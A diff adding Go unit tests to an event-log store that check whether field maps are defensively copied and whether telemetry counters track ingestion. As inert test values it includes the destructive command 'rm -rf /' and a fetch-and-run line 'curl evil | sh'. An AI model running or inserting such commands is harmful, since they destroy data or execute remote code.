@@ -6,6 +6,9 @@ import (
 	"testing"
 	"testing/quick"
 	"time"
+
+	"mavscan/internal/simtime"
+	"mavscan/internal/telemetry"
 )
 
 var t0 = time.Date(2021, 6, 9, 0, 0, 0, 0, time.UTC)
@@ -145,5 +148,59 @@ func TestNilFieldsNormalized(t *testing.T) {
 	}
 	if events[0].Field("missing") != "" {
 		t.Fatal("missing field must read as empty")
+	}
+}
+
+// TestFieldsDefensivelyCopied locks in the append-only guarantee at the
+// map level: neither a shipper mutating its Fields map after Append nor a
+// reader mutating a Search result may alter the stored history.
+func TestFieldsDefensivelyCopied(t *testing.T) {
+	var s Store
+
+	// Writer-side: mutate the map after Append.
+	fields := map[string]string{"src": "attacker", "command": "id"}
+	s.Append(ev(0, "exec", fields))
+	fields["command"] = "rm -rf /"
+	fields["forged"] = "yes"
+
+	got := s.Search(Query{Type: "exec"})
+	if len(got) != 1 {
+		t.Fatalf("Search = %d events, want 1", len(got))
+	}
+	if got[0].Field("command") != "id" || got[0].Field("forged") != "" {
+		t.Fatalf("writer-side mutation leaked into store: %v", got[0].Fields)
+	}
+
+	// Reader-side: mutate a result and re-query.
+	got[0].Fields["command"] = "curl evil | sh"
+	delete(got[0].Fields, "src")
+	again := s.Search(Query{Type: "exec"})
+	if again[0].Field("command") != "id" || again[0].Field("src") != "attacker" {
+		t.Fatalf("reader-side mutation leaked into store: %v", again[0].Fields)
+	}
+
+	// Aggregate must see the unmodified history too.
+	if agg := s.Aggregate(Query{Type: "exec"}, "command"); agg["id"] != 1 || len(agg) != 1 {
+		t.Fatalf("Aggregate saw mutated fields: %v", agg)
+	}
+}
+
+// TestInstrumentTracksIngestion checks the store's telemetry handles.
+func TestInstrumentTracksIngestion(t *testing.T) {
+	var s Store
+	s.Append(ev(0, "http", nil))
+
+	reg := telemetry.New(simtime.NewSim(t0))
+	s.Instrument(reg)
+	if got := reg.GaugeValue("mavscan_eslite_store_size"); got != 1 {
+		t.Fatalf("size gauge after late Instrument = %d, want 1", got)
+	}
+	s.Append(ev(time.Hour, "exec", nil))
+	s.Append(ev(2*time.Hour, "exec", nil))
+	if got := reg.CounterValue("mavscan_eslite_events_total"); got != 2 {
+		t.Fatalf("events counter = %d, want 2 (post-instrument appends)", got)
+	}
+	if got := reg.GaugeValue("mavscan_eslite_store_size"); got != 3 {
+		t.Fatalf("size gauge = %d, want 3", got)
 	}
 }
